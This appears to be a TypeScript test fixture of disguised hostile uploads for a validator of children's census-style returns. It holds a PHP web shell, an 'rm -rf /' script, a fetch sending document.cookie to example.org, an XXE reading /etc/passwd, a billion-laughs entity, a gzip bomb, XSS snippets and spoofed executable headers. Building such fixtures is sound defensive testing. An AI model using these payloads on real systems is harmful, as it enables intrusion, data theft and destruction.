import { gzipSync } from "node:zlib";

const header =
  "CHILD,SEX,DOB,ETHNIC,UPN,MOTHER,MC_DOB\nK1,1,03/03/2017,WBRI,A123456789012,0,\n";
const bytes = (...parts: (string | readonly number[])[]) =>
  new Uint8Array(
    Buffer.concat(
      parts.map((part) =>
        typeof part === "string"
          ? Buffer.from(part, "latin1")
          : Buffer.from(part),
      ),
    ),
  );

/** Twenty-five files under names of returns that are none, or not only one. */
export const hostileFiles: Readonly<Record<string, Uint8Array<ArrayBuffer>>> = {
  "program.csv": bytes("MZ", [0x90, 0, 3, 0, 0, 0], header),
  "linux program.csv": bytes([0x7f], "ELF", [2, 1, 1, 0], header),
  "java.csv": bytes([0xca, 0xfe, 0xba, 0xbe, 0, 0], header),
  "picture.csv": bytes([0x89], "PNG\r\n", [0x1a, 0x0a, 0, 0, 0, 0x0d]),
  "photograph.csv": bytes(
    [0xff, 0xd8, 0xff, 0xe1, 0, 0x10],
    "Exif",
    [0, 0],
    "GPSLatitude",
  ),
  "animation.csv": bytes(
    "GIF89a",
    [1, 0, 1, 0, 0, 0, 0],
    "<script>alert(1)</script>",
  ),
  "paper.csv": bytes("%PDF-1.7\n1 0 obj <</OpenAction /JavaScript>> endobj"),
  "archive.csv": bytes("PK", [3, 4, 20, 0, 0, 0, 8, 0], "episodes.csv"),
  "letter.csv": bytes("PK", [3, 4, 20, 0], "word/document.xml"),
  "letter with macros.csv": bytes("PK", [3, 4, 20, 0], "word/vbaProject.bin"),
  "sheet.csv": bytes("PK", [3, 4, 20, 0], "xl/workbook.xml"),
  "old sheet.csv": bytes(
    [0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1],
    [0, 0, 0],
  ),
  "rich text.csv": bytes("{\\rtf1\\ansi{\\object\\objdata 01050000}}"),
  "drawing.xml": bytes(
    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>',
  ),
  "page.csv": bytes("<!doctype html><script>alert(1)</script>"),
  "page.xml": bytes(
    '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script/></html>',
  ),
  "server page.csv": bytes("<?php system($_GET['c']); ?>"),
  "shell.csv": bytes("#!/bin/sh\nrm -rf /\n"),
  "script.csv": bytes("fetch('//example.org/' + document.cookie)\n"),
  "packed.csv": new Uint8Array(gzipSync(Buffer.alloc(20_000_000, header))),
  "test virus.csv": bytes(
    "X5O!P%@AP[4\\PZX54(P^)7CC)7}$",
    "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*",
  ),
  "laughs.xml": bytes(
    '<?xml version="1.0"?><!DOCTYPE m [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><Message>&b;</Message>',
  ),
  "elsewhere.xml": bytes(
    '<?xml version="1.0"?><!DOCTYPE m [<!ENTITY x SYSTEM "file:///etc/passwd">]><Message>&x;</Message>',
  ),
  "return and program.csv": bytes(header, [0, 0, 0x7f], "ELF", [2, 1, 1, 0]),
  "census cut short.xml": bytes(
    "<Message><Header><CollectionDetails><Collection>CIN</Collection>",
  ),
};
